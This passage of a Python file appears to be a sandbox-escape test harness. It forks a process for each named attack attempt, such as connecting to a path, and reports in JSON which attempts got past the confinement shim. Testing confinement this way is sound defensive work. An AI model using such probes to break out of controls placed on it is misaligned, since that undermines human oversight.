    attack(f"connect to {_path}")(_connects(_path))


KERNEL_DECIDES = ATTACKS.keys() - _BEFORE


def tried(function: Attack, given: Given, shim: int) -> bool:
    """Run one attempt in a process of its own; return whether it got through."""
    reader, writer = os.pipe()
    at: At = {**given, "shim": shim, "pipe": (reader, writer)}
    pid = os.fork()
    if pid == 0:
        got = b"0"
        with contextlib.suppress(BaseException):
            got = b"1" if function(at) else b"0"
        os.write(writer, got)
        os._exit(0)
    os.close(writer)
    answer = os.read(reader, 1)
    os.close(reader)
    os.waitpid(pid, 0)
    return answer == b"1"


def main() -> None:
    given: Given = json.loads(sys.argv[1])
    shim = os.getppid()
    json.dump({words: tried(function, given, shim) for words, function in ATTACKS.items()}, sys.stdout)


if __name__ == "__main__":
    main()
